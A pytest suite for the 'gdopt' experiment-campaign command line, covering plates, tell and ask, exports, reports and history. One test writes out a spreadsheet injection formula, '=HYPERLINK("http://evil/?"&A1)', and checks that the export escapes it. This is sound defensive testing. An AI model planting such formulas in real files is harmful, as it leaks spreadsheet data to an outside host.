"""The verbs of a campaign: files in, files and JSON out, and nothing done twice."""

import json
import sys
import time
from html.parser import HTMLParser
from io import StringIO
from pathlib import Path

import pandas as pd
import pytest
from rich.console import Console
from typer.testing import CliRunner

import gdopt
from gdopt import files
from gdopt.cli import app
from gdopt.cli.waiting import waiting
from gdopt.storage.events import Event, EventType
from gdopt.storage.sql_store import SqlStore

CAMPAIGN = """
name = "suzuki"
direction = "maximize"
objective = "yield"
outcome_constraints = ["impurity <= 2"]
batch = 3
algorithm = "random"
[[parameters]]
name = "t<i>"
kind = "real"
low = 20
high = 120
[[parameters]]
name = "base"
kind = "choice"
categories = ["KOAc", "<b>"]
"""


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder with a campaign and its study."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("GDOPT_STUDY", raising=False)
    Path("campaign.toml").write_text(CAMPAIGN)
    answer("new")
    return tmp_path


def test_studies_that_are_kept_together_are_told_apart_by_name(folder: Path) -> None:
    for name in ("amines", "ethers"):
        answer("new", "--study", f"screens.gdopt#{name}")
    answer("ask", "-n", "2", "--study", "screens.gdopt#ethers")
    counts = {name: len(answer("pending", "--study", f"screens.gdopt#{name}")) for name in ("amines", "ethers")}
    assert counts == {"amines": 0, "ethers": 2}
    assert answer("check", "--study", "screens.gdopt#ethers")["trials"] == 2
    assert "there is no study 'acids'" in error("ask", "--study", "screens.gdopt#acids")["message"]
    assert "screens.gdopt#ethers holds a study already" in error("new", "--study", "screens.gdopt#ethers")["message"]


def answer(*words: str) -> object:
    """What a verb answers as JSON, and nothing else on the output."""
    result = CliRunner().invoke(app, [*words, "--json"])
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def error(*words: str) -> dict[str, str]:
    result = CliRunner().invoke(app, [*words, "--json"])
    assert result.exit_code == 1, result.output
    return json.loads(result.stdout)


def text(*words: str) -> str:
    result = CliRunner().invoke(app, list(words))
    assert result.exit_code == 0, result.output
    return result.stdout


def fill(path: str, **cells: tuple[str, ...]) -> None:
    """Write columns of a plate."""
    Path(path).write_bytes(pd.read_csv(path, dtype=str).assign(**cells).to_csv(index=False).encode())


def test_a_campaign_from_its_file_to_its_second_plate(folder: Path) -> None:
    first = answer("ask", "--csv", "plate1.csv")
    assert [t["id"] for t in first["trials"]] == [0, 1, 2]
    fill("plate1.csv", **{"yield": ("83,5", "failed", "")}, impurity=("1", "", ""))
    told = answer("tell", "plate1.csv")
    assert told == {"new": 2, "told": [0], "failed": [1], "abandoned": [], "pending": [2]}
    assert answer("tell", "plate1.csv")["new"] == 0
    assert answer("best")["value"] == 83.5
    assert answer("ask", "-n", "2", "--csv", "plate2.csv")["key"] == "plate2"
    assert answer("status")["trials"] == {"pending": 3, "done": 1, "failed": 1, "abandoned": 0}


CONDITIONAL = """
name = "branches"
direction = "maximize"
objective = "yield"
batch = 6
algorithm = "random"
[[parameters]]
name = "metal"
kind = "choice"
categories = ["none", "Pd"]
[[parameters]]
name = "ligand"
kind = "choice"
categories = ["A", "B"]
active_if = { metal = "Pd" }
[[parameters]]
name = "steps"
kind = "integer"
low = 1
high = 3
[[parameters]]
name = "second"
kind = "real"
low = 20
high = 80
active_if = { steps = [2, 3] }
"""


def test_a_campaign_of_branches_from_its_file_to_its_report(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("GDOPT_STUDY", raising=False)
    Path("campaign.toml").write_text(CONDITIONAL)
    answer("new")
    trials = answer("ask", "--csv", "plate1.csv")["trials"]
    without = [t["id"] for t in trials if t["params"].get("metal") == "none"]
    assert [t["id"] for t in trials if "ligand" not in t["params"]] == without
    assert [t["id"] for t in trials if "second" not in t["params"]] == [
        t["id"] for t in trials if t["params"]["steps"] == 1
    ]
    sheet = pd.read_csv("plate1.csv")
    assert sheet[sheet.ligand.isna()].id.tolist() == without
    fill("plate1.csv", **{"yield": tuple("123456")})
    assert answer("tell", "plate1.csv")["new"] == 6
    (fixed,) = answer("ask", "-n", "1", "--fix", "metal=Pd", "--fix", "ligand=A", "--fix", "steps=1")["trials"]
    assert fixed["params"] == {"metal": "Pd", "ligand": "A", "steps": 1}
    assert "ligand = 'A' does not count" in error("ask", "--fix", "ligand=A")["message"]
    # What counts no longer beside what was tried is left out.
    (tried,) = answer("tell", str(fixed["id"]), "7", "--param", "metal=none")["trials"]
    assert tried["params"] == {"metal": "none", "steps": 1}
    table = pd.read_csv(StringIO(text("export")), dtype=str)
    assert table.steps[6] == "1"
    assert table[["ligand", "second"]].loc[6].isna().all()
    text("pending")
    answer("report")
    assert "20 to 80, if steps is 2 or 3" in Path("report.html").read_text()


def test_a_plate_with_errors_changes_nothing(folder: Path) -> None:
    answer("ask", "--csv", "plate1.csv")
    fill("plate1.csv", **{"yield": ("83", "x", "84")})
    said = error("tell", "plate1.csv")
    assert said["error"] == "TableError"
    assert "row 3, column yield: 'x' is not a number" in said["message"]
    assert len(answer("pending")) == 3


def test_an_ask_that_is_repeated_gives_the_same_file(folder: Path) -> None:
    first = answer("ask", "--csv", "plate1.csv", "--worker", "robot-A")
    before = Path("plate1.csv").read_bytes()
    assert answer("ask", "--csv", "plate1.csv") == first
    Path("plate1.csv").unlink()
    assert answer("ask", "--csv", "plate1.csv") == first
    assert Path("plate1.csv").read_bytes() == before
    assert {t["worker"] for t in answer("pending", "--worker", "robot-A")} == {"robot-A"}
    assert answer("pending", "--worker", "robot-B") == []


def test_a_filled_in_plate_is_not_overwritten_unless_forced(folder: Path) -> None:
    answer("ask", "--csv", "plate1.csv")
    empty = Path("plate1.csv").read_bytes()
    fill("plate1.csv", **{"yield": ("1", "2", "3")})
    assert "--force overwrites it" in error("ask", "--csv", "plate1.csv")["message"]
    answer("ask", "--csv", "plate1.csv", "--force")
    assert Path("plate1.csv").read_bytes() == empty


def test_a_file_of_something_else_stops_an_ask_before_it_asks(folder: Path) -> None:
    Path("plate1.csv").write_text("my own")
    assert "plate1.csv is there already, and not of 'plate1'" in error("ask", "--csv", "plate1.csv")["message"]
    assert answer("pending") == []


def test_the_name_of_a_plate_that_is_told_is_not_taken_again(folder: Path) -> None:
    answer("ask", "-n", "1", "--csv", "plate1.csv")
    answer("tell", "0", "1")
    Path("plate1.csv").unlink()
    assert "all of 'plate1', id 0, is told" in error("ask", "--csv", "plate1.csv")["message"]


def test_a_plate_of_another_folder_is_another_plate(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for day in ("mon", "tue"):
        Path(day).mkdir()
    asked = {day: answer("ask", "-n", "2", "--csv", f"{day}/plate.csv") for day in ("mon", "tue")}
    assert [[t["id"] for t in one["trials"]] for one in asked.values()] == [[0, 1], [2, 3]]
    assert [one["key"] for one in asked.values()] == ["mon/plate", "tue/plate"]
    monkeypatch.chdir("tue")
    again = [answer("ask", "--csv", name, "--study", "../suzuki.gdopt") for name in ("plate.csv", "../mon/plate.csv")]
    assert [one["trials"] for one in again] == [asked["tue"]["trials"], asked["mon"]["trials"]]


def test_a_plate_stays_the_same_when_its_campaign_is_moved_or_linked_to(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    Path("mon").mkdir()
    first = answer("ask", "-n", "1", "--csv", "mon/plate.csv")["trials"]
    moved = folder.rename(folder.with_name("moved"))
    moved.with_name("link").symlink_to(moved)
    monkeypatch.chdir(moved.with_name("link"))
    assert answer("ask", "--csv", "mon/plate.csv")["trials"] == first


def test_a_plate_outside_the_folder_of_its_study_is_known_by_its_place(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    trials = []
    for name in ("here", "there"):
        elsewhere = folder.with_name(f"{folder.name}-{name}")
        elsewhere.mkdir()
        monkeypatch.chdir(elsewhere)
        words = ("ask", "-n", "1", "--csv", "plate.csv", "--study", str(folder / "suzuki.gdopt"))
        trials.append([answer(*words)["trials"], answer(*words)["trials"]])
    assert [[one["id"] for (one,) in some] for some in trials] == [[0, 0], [1, 1]]


def test_a_plate_that_an_earlier_version_asked_for_by_its_name_is_known(folder: Path) -> None:
    Path("mon").mkdir()
    first = answer("ask", "-n", "2", "--csv", "mon/plate.csv", "--key", "plate")["trials"]
    assert answer("ask", "--csv", "mon/plate.csv")["trials"] == first
    Path("tue").mkdir()
    assert [t["id"] for t in answer("ask", "-n", "2", "--csv", "tue/plate.csv")["trials"]] == [2, 3]


def test_a_plate_for_a_folder_that_is_missing_asks_for_nothing(folder: Path) -> None:
    assert "there is no folder wed" in error("ask", "--csv", "wed/plate.csv")["message"]
    assert answer("pending") == []


@pytest.mark.parametrize(
    ("name", "kind"), [("suzuki.gdopt", "a study"), ("campaign.toml", "a campaign"), ("prior.csv", "a prior")]
)
def test_a_study_a_campaign_and_a_prior_are_never_overwritten(folder: Path, name: str, kind: str) -> None:
    files.write(Path("prior.csv"), {}, {"format": "a prior"})
    before = Path(name).read_bytes()
    assert f"{name} is {kind}" in error("ask", "--csv", name, "--force")["message"]
    if name.endswith(".csv"):
        assert f"{name} is {kind}" in error("export", name, "--force")["message"]
    assert Path(name).read_bytes() == before
    assert answer("pending") == []


@pytest.mark.parametrize("suffix", ["csv", "json"])
def test_an_export_overwrites_an_earlier_one_and_nothing_else(folder: Path, suffix: str) -> None:
    answer("ask", "--csv", f"plate.{suffix}")
    filled = Path(f"plate.{suffix}").read_bytes()
    assert "is there already, and no export" in error("export", f"plate.{suffix}")["message"]
    assert Path(f"plate.{suffix}").read_bytes() == filled
    answer("export", f"plate.{suffix}", "--force")
    answer("tell", "0", "1")
    answer("export", f"plate.{suffix}")
    assert b"done" in Path(f"plate.{suffix}").read_bytes()


def test_an_export_of_one_study_is_added_to_another(folder: Path) -> None:
    answer("ask")
    answer("tell", "0", "1.5", "--sem", "0.25", "--outcome", "impurity=1")
    answer("fail", "1", "--reason", '=HYPERLINK("http://evil/?"&A1)')
    answer("export", "all.csv")
    assert "'=HYPERLINK" in Path("all.csv").read_text()
    answer("new", "--study", "other.gdopt")
    told = answer("add", "all.csv", "--study", "other.gdopt")
    assert told == {"added": [0, 1], "known": 0, "left_out": {"pending": 1}}
    assert answer("best", "--study", "other.gdopt")["outcomes"] == answer("best", "--study", "suzuki.gdopt")["outcomes"]
    assert answer("best", "--study", "other.gdopt")["sem"] == 0.25
    again = text("add", "all.csv", "--study", "other.gdopt")
    assert again == "all.csv: 0 results added, 2 were there already, 1 pending left out\n"


def test_an_outcome_called_like_a_column_is_in_the_export(folder: Path) -> None:
    Path("campaign.toml").write_text(CAMPAIGN.replace('"yield"', '"status"').replace("impurity", "worker"))
    answer("new", "--study", "other.gdopt")
    answer("ask", "--csv", "other.csv", "--study", "other.gdopt", "--worker", "ann")
    fill("other.csv", **{"outcomes.status": ("3", "4", "5"), "outcomes.worker": ("1", "2", "3")})
    answer("tell", "other.csv", "--study", "other.gdopt")
    answer("export", "all.json", "--study", "other.gdopt")
    rows = json.loads(Path("all.json").read_text())
    assert [row["outcomes.worker"] for row in rows] == [1, 2, 3]
    assert {(row["status"], row["worker"]) for row in rows} == {("done", "ann")}


def test_one_trial_is_told_with_all_that_was_measured(folder: Path) -> None:
    answer("ask")
    words = ["0", "-0.5", "--sem", "0.1", "--outcome", "impurity=1.5", "--param", "t<i>=50"]
    (trial,) = answer("tell", *words)["trials"]
    assert (trial["value"], trial["sem"], trial["params"]["t<i>"]) == (-0.5, 0.1, 50)
    assert trial["outcomes"] == {"impurity": {"value": 1.5, "sem": None}}
    assert trial["proposed"]["t<i>"] != 50
    assert answer("tell", *words)["new"] == 0


def test_what_went_wrong_is_said_and_corrected(folder: Path) -> None:
    answer("ask")
    answer("fail", "0", "--reason", "spilled")
    answer("abandon", "1", "2", "--reason", "no time")
    answer("amend", "0", "7", "--reason", "not spilled")
    answer("amend", "1", "failed", "--reason", "was tried")
    answer("amend", "0", "-8", "--reason", "sign")
    assert [entry["kind"] for entry in answer("history", "0")] == ["asked", "failed", "amended", "amended"]
    assert answer("history", "1")[-1]["data"] == {"id": 1, "reason": "was tried", "status": "failed"}
    assert '"status": "failed"' in text("history", "1").splitlines()[-1]
    rows = answer("export")
    assert [row["status"] for row in rows] == ["done", "failed", "abandoned"]
    assert [row["yield"] for row in rows] == [-8, None, None]


def test_who_told_failed_and_corrected_is_in_the_history(folder: Path) -> None:
    answer("ask", "--worker", "ann")
    answer("tell", "0", "3.25", "--worker", "bob")
    answer("amend", "0", "failed", "--reason", "of another vial", "--worker", "cem")
    answer("fail", "1", "--worker", "dora")
    answer("abandon", "2", "--worker", "eve")
    last = [[one["worker"] for one in answer("history", str(id))] for id in range(3)]
    assert last == [["ann", "bob", "cem"], ["ann", "dora"], ["ann", "eve"]]
    answer("ask", "-n", "1", "--csv", "p.csv")
    fill("p.csv", **{"yield": ("83,5",)})
    answer("tell", "p.csv", "--worker", "fred")
    assert answer("history", "3")[-1]["worker"] == "fred"


def test_one_of_a_thing_is_no_plural(folder: Path) -> None:
    assert text("ask", "-n", "1", "--csv", "p.csv").startswith("p.csv: 1 trial, id 0; ")
    assert text("check").endswith(": 1 entry, 1 trial\n")
    assert text("export", "all.csv") == "all.csv: 1 row\n"


def test_no_message_of_the_command_line_speaks_python(folder: Path) -> None:
    answer("ask", "-n", "1", "--key", "k")
    assert error("best")["message"] == "no trial has a value yet"
    said = [error("ask", "-n", "2", "--key", "k"), error("amend", "0", "1", "--reason", "y"), error("tell", "7", "1")]
    answer("tell", "0", "1")
    said += [error("tell", "0", "2"), error("tell", "0", "nan"), error("ask", "-n", "0")]
    assert not [one["message"] for one in said if "()" in one["message"] or "ask(" in one["message"]]


def test_a_released_trial_is_given_to_the_next_worker(folder: Path) -> None:
    answer("ask", "-n", "1", "--worker", "A", "--lease", "24")
    answer("release", "0")
    (trial,) = answer("ask", "-n", "1", "--worker", "B", "--lease", "24")["trials"]
    assert (trial["id"], trial["worker"]) == (0, "B")


def test_data_from_before_is_added_once(folder: Path) -> None:
    Path("data.csv").write_text("t<i>;base;yield\n20,5;KOAc;1\n30;<b>;2\n")
    assert answer("add", "data.csv") == {"added": [0, 1], "known": 0, "left_out": {}}
    assert answer("add", "data.csv") == {"added": [], "known": 2, "left_out": {}}


def test_tables_and_figures_are_written(folder: Path) -> None:
    answer("ask")
    assert error("plot")["error"] == "TrialError"
    answer("tell", "1", "3.25")
    answer("export", "all.csv")
    answer("export", "all.json")
    table = pd.read_csv("all.csv")
    assert table["yield"].dropna().tolist() == [3.25]
    assert json.loads(Path("all.json").read_text()) == answer("export")
    answer("plot", "progress.svg")
    assert Path("progress.svg").read_text().rstrip().endswith("</svg>")
    assert error("plot", "progress.xyz")["error"] == "SettingsError"
    assert error("export", "all.xlsx")["error"] == "SettingsError"


class Page(HTMLParser):
    """The tags of a page, what it links to, and its text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags, self.links, self.text = set[str](), list[str](), ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.links += [value or "" for name, value in attrs if name in ("src", "href", "xlink:href")]

    def handle_data(self, data: str) -> None:
        self.text += data


def test_a_report_needs_no_other_file_and_shows_names_as_they_are(folder: Path) -> None:
    answer("ask", "-n", "20")
    answer("tell", "0", "3.25", "--outcome", "impurity=1")
    answer("report")
    page = Page()
    page.feed(Path("report.html").read_text())
    assert all(link.startswith("#") for link in page.links)
    assert page.tags.isdisjoint({"i", "b", "script", "link", "img"})
    assert {"svg", "table"} <= page.tags
    assert "t<i>" in page.text
    assert "<b>" in page.text


def test_a_report_overwrites_an_earlier_one_and_nothing_else(folder: Path) -> None:
    kept = {name: Path(name).read_bytes() for name in ("suzuki.gdopt", "campaign.toml")}
    for name in kept:
        assert "expected the name of the page, which ends in .html" in error("report", name)["message"]
    Path("suzuki.html").write_bytes(kept["suzuki.gdopt"])
    assert "is a study, which is not overwritten" in error("report", "suzuki.html", "--force")["message"]
    Path("page.html").write_text("<p>of somebody's")
    assert "page.html is there already, and no report of gdopt's" in error("report", "page.html")["message"]
    assert Path("page.html").read_text() == "<p>of somebody's"
    answer("report", "page.html", "--force")
    answer("ask")
    answer("report", "page.html")
    assert "3 trials" in Path("page.html").read_text()
    assert {name: Path(name).read_bytes() for name in kept}["campaign.toml"] == kept["campaign.toml"]


def test_a_reason_that_is_no_text_is_refused_but_read_from_old_files(folder: Path) -> None:
    answer("ask")
    assert "it cannot be written in UTF-8" in error("fail", "1", "--reason", "caf\udce9")["message"]
    store = SqlStore("suzuki.gdopt")
    with store.transaction(store.header(), begun=True) as writer:
        writer.append(Event(EventType.FAILED, {"ids": [1], "reason": "caf\udce9"}))
    answer("tell", "0", "5", "--outcome", "impurity=1")
    answer("report")
    answer("export", "all.csv")
    assert all("caf\\udce9" in Path(name).read_text() for name in ("report.html", "all.csv"))
    assert "caf\\" in text("history", "1")
    assert "caf\\udce9" in text("export")


def test_a_figure_is_not_drawn_over_a_study(folder: Path) -> None:
    answer("ask")
    answer("tell", "0", "5")
    assert "is a study, which is not overwritten" in error("plot", "suzuki.gdopt")["message"]
    assert answer("status")["trials"]["done"] == 1


def test_a_backup_is_a_copy_that_is_checked(folder: Path) -> None:
    answer("ask")
    assert answer("backup", "monday.backup") == {"file": "monday.backup", "entries": 1}
    assert answer("check", "--study", "monday.backup")["trials"] == 3
    assert "monday.backup is there already" in error("backup", "monday.backup")["message"]
    assert "there is no study" in error("backup", "tuesday.backup", "--study", "missing.gdopt")["message"]
    assert not Path("tuesday.backup").exists()


def test_a_result_outside_the_bounds_is_kept_and_marked(folder: Path) -> None:
    answer("ask")
    answer("tell", "0", "5", "--outcome", "impurity=1", "--param", "t<i>=120.4")
    assert answer("best")["outside"] is True
    assert "outside   t<i> = 120.4 is outside [20.0, 120.0]" in text("best")
    assert "far outside" in error("tell", "1", "5", "--param", "t<i>=1204")["message"]
    answer("report")
    assert "t&lt;i&gt; = 120.4 is outside [20.0, 120.0]" in Path("report.html").read_text()
    assert [row["outside"] for row in answer("export")] == [True, False, False]


def test_results_of_a_wider_campaign_are_added_where_it_is_said(folder: Path) -> None:
    Path("old.csv").write_text("t<i>,base,yield\n1000,KOAc,3\n")
    assert "is far outside" in error("add", "old.csv")["message"]
    assert answer("add", "old.csv", "--outside")["added"] == [0]


def test_a_report_of_an_empty_study_says_so(folder: Path) -> None:
    answer("report")
    assert "no trial has a value yet" in Path("report.html").read_text()


def test_a_study_that_was_changed_is_found_out(folder: Path) -> None:
    import sqlite3

    answer("ask")
    assert answer("check") == {"study": "suzuki.gdopt", "trials": 3, "entries": 1}
    with sqlite3.connect("suzuki.gdopt") as connection:
        connection.execute("UPDATE entry SET data = replace(data, 'KOAc', 'NaOH')")
    assert "was changed after it was written" in error("check")["message"]


def test_which_study_is_said_by_option_variable_or_folder(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    answer("new", "--study", "other.gdopt")
    assert "there are other.gdopt, suzuki.gdopt in this folder" in error("status")["message"]
    assert answer("status", "--study", "other.gdopt")["study"] == "other.gdopt"
    monkeypatch.setenv("GDOPT_STUDY", "suzuki.gdopt")
    assert answer("status")["study"] == "suzuki.gdopt"
    monkeypatch.chdir(folder.parent)
    monkeypatch.delenv("GDOPT_STUDY")
    assert "there is no *.gdopt in this folder" in error("status")["message"]
    assert "there is no study 'study' in none.gdopt" in error("status", "--study", "none.gdopt")["message"]


def test_new_does_not_overwrite_a_study(folder: Path) -> None:
    assert "suzuki.gdopt holds a study already" in error("new")["message"]


def test_init_writes_what_was_answered(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    answers = ["mine", "cost", "up", "minimize", "", "impurity < 2", "impurity <= 2", "", "", "4", "",
               "t", "real", "10", "1", "", "n", "real", "1", "10", "degC", "y",
               "base", "choice", "KOAc, K3PO4", "n", "integer", "1", "9", "", ""]  # fmt: skip
    result = CliRunner().invoke(app, ["init", "--json"], input="\n".join(answers) + "\n")
    # The runner shows what is typed on the output too.
    assert json.loads(result.stdout.splitlines()[-1]) == {"file": "campaign.toml"}
    answer("new")
    study = gdopt.Study.load("mine.gdopt")
    assert study.space == gdopt.Space(
        [
            gdopt.Real("t", 1, 10, log_scale=True, unit="degC"),
            gdopt.Choice("base", ["KOAc", "K3PO4"]),
            gdopt.Integer("n", 1, 9),
        ]
    )
    assert (study.direction, study.objective, study.batch) == ("minimize", "cost", 4)
    assert "is there already" in error("init", "--example")["message"]


@pytest.mark.parametrize(
    ("worst", "reference"),
    [(["fifty", "nan", "50", "20"], [50.0, 20.0]), (["", "20"], [None, 20.0]), (["", ""], [None, None])],
)
def test_init_asks_for_several_objectives_and_their_worst_values(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, worst: list[str], reference: list[float | None]
) -> None:
    monkeypatch.chdir(tmp_path)
    answers = ["mine", "yield", "maximize", "yield", "cost", "minimize", "", *worst,
               "cost <= 9", "impurity <= 2", "", "yield", "colour", "", "4", "",
               "t", "real", "-1", "1", "", ""]  # fmt: skip
    result = CliRunner().invoke(app, ["init"], input="\n".join(answers) + "\n")
    assert result.output.count("already") == 3
    answer("new")
    study = gdopt.Study.load("mine.gdopt")
    assert [(one.name, one.direction) for one in study.objectives] == [("yield", "maximize"), ("cost", "minimize")]
    assert [one.reference_point for one in study.objectives] == reference
    assert study.outcomes == ("yield", "cost", "impurity", "colour")


def test_init_asks_again_for_what_cannot_be(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    answers = ["my campaign", "mine", " ", "yield", "", "", "impurity <= 2", "", "impurity", "colour", "colour", "",
               "0", "x", "4", "", "", "t", "", "2", "1", "", "", "", "1", "2", "", "n", "t",
               "base", "choice", "A,", "choice", "A,B", ""]  # fmt: skip
    result = CliRunner().invoke(app, ["init"], input="\n".join(answers) + "\n")
    assert "'my campaign': expected letters, digits" in result.output
    assert "a campaign without a file of designs needs a parameter" in result.output
    assert [result.output.count(f"there is a {one} already") for one in ("impurity", "colour", "t")] == [1, 1, 1]
    answer("new")
    study = gdopt.Study.load("mine.gdopt")
    assert (study.space.names, study.batch, study.outcomes) == (("t", "base"), 4, ("yield", "impurity", "colour"))


def test_init_says_before_its_questions_that_a_file_cannot_be_written(tmp_path: Path) -> None:
    assert "there is no folder" in error("init", str(tmp_path / "none" / "campaign.toml"))["message"]


def test_init_without_answers_writes_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert "the questions were not answered" in error("init")["message"]
    assert list(tmp_path.iterdir()) == []


def test_people_read_sentences_and_tables(folder: Path) -> None:
    said = text("ask", "-n", "2", "--csv", "p.csv")
    assert said == "p.csv: 2 trials, ids 0 to 1; filled in: gdopt tell p.csv\n"
    assert text("tell", "0", "3.25") == "trial 0 is done, yield 3.25\n"
    assert "trials: 1 pending, 1 done" in text("status")
    assert text("pending").splitlines()[0].split() == ["id", "worker", "t<i>", "base"]


@pytest.mark.parametrize(
    ("words", "kind"),
    [
        (["tell", "plate.csv", "1"], "SettingsError"),
        (["tell", "none.csv"], "StoreError"),
        (["tell", "0"], "ResultError"),
        (["tell", "0", "--sem", "1"], "ResultError"),
        (["tell", "0", "1", "--outcome", "impurity"], "SettingsError"),
        (["tell", "0", "nan"], "ResultError"),
        (["tell", "7", "1"], "UnknownTrialError"),
        (["amend", "0", "x", "--reason", "y"], "ResultError"),
        (["amend", "0", "1", "--reason", "y"], "TrialError"),
        (["ask", "-n", "0"], "SettingsError"),
        (["best"], "TrialError"),
        (["history", "7"], "UnknownTrialError"),
        (["report", "none/report.html"], "StoreError"),
        (["new", "none.toml"], "StoreError"),
    ],
)
def test_what_cannot_be_is_an_error_in_json(folder: Path, words: list[str], kind: str) -> None:
    answer("ask", "-n", "1")
    assert error(*words)["error"] == kind


def test_a_wait_is_told_of_once_it_takes_a_second() -> None:
    out = StringIO()
    with waiting("asking", 5.0, Console(file=out)):
        pass
    assert out.getvalue() == ""
    with waiting("asking", 5.0, Console(file=out)):
        time.sleep(1.2)
    assert out.getvalue() == "asking: 1 s, about 4 s left\n"


def test_a_study_in_postgresql_is_used_like_one_in_a_file(
    folder: Path, postgresql: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GDOPT_STUDY", postgresql)
    answer("new")
    answer("ask", "-n", "1")
    assert answer("tell", "0", "1")["new"] == 1
    assert answer("status")["trials"]["done"] == 1
    assert answer("status")["study"].startswith("postgresql+psycopg://")


def test_rows_of_a_table_are_asked_for_with_their_columns_and_told_by_plate(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("GDOPT_STUDY", raising=False)
    Path("rows.csv").write_text("code,mass,shelf\n007,1.5,top\nA2,2,low\nA3,3,mid\n")
    top = 'name = "rows"\ndirection = "maximize"\nobjective = "yield"\n'
    Path("campaign.toml").write_text(f'{top}[table]\nfile = "rows.csv"\nid = "code"\ndescriptors = ["mass"]\n')
    answer("new")
    answer("ask", "-n", "2", "--csv", "plate.csv")
    sheet = pd.read_csv("plate.csv", dtype={"code": str})
    assert sheet.columns.tolist() == ["id", "code", "mass", "shelf", "yield", "note"]
    sheet.assign(**{"yield": [4.0, 5.0]}).to_csv("filled.csv", index=False)
    answer("tell", "filled.csv")
    assert answer("best")["params"] == {"code": sheet.code[1]}


def test_a_campaigns_function_says_what_is_asked_for(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("sys.path", [*sys.path])
    for name in ("GDOPT_STUDY", "GDOPT_DESIGN_FILTER"):
        monkeypatch.delenv(name, raising=False)
    Path("campaign.toml").write_text(
        'design_filter = "verbs_rules:mixes"' + CAMPAIGN.replace('algorithm = "random"', "")
    )
    Path("verbs_rules.py").write_text("def mixes(params):\n    return params['base'] == 'KOAc'\n")
    answer("new")
    assert "give --design-filter verbs_rules:mixes, or set GDOPT_DESIGN_FILTER" in error("ask")["message"]
    assert (
        "--design-filter math:sin: the design filter of the study is verbs_rules:mixes"
        in error("ask", "--design-filter", "math:sin")["message"]
    )
    trials = answer("ask", "-n", "3", "--design-filter", "verbs_rules:mixes")["trials"]
    monkeypatch.setenv("GDOPT_DESIGN_FILTER", "verbs_rules:mixes")
    trials += answer("ask")["trials"]
    assert [t["params"]["base"] for t in trials] == ["KOAc"] * 6


def test_the_old_option_and_variable_of_the_design_filter_name_the_new_ones(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    new = "give --design-filter, or set GDOPT_DESIGN_FILTER"
    assert new in error("ask", "--allowed", "verbs_rules:mixes")["message"]
    monkeypatch.setenv("GDOPT_ALLOWED", "verbs_rules:mixes")
    assert error("ask")["error"] == "RenamedError"
    for words in (["serve"], ["worker", "campaign.gdopt", "math:sin"]):
        assert new in str(CliRunner().invoke(app, words).exception)
    assert answer("pending") == []


def test_everything_was_tried_is_an_error_unless_the_best_is_to_be_repeated(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("campaign.toml").write_text(
        CAMPAIGN.replace('kind = "real"\nlow = 20\nhigh = 120', 'kind = "integer"\nlow = 1\nhigh = 2')
    )
    answer("new")
    asked = answer("ask", "-n", "6")["trials"]
    assert len(asked) == 4
    answer("tell", "2", "80", "--outcome", "impurity=1")
    assert "all 4 designs were tried" in error("ask")["message"]
    (again,) = answer("ask", "-n", "1", "--repeat")["trials"]
    assert (again["params"], again["source"]) == (asked[2]["params"], "repeat")
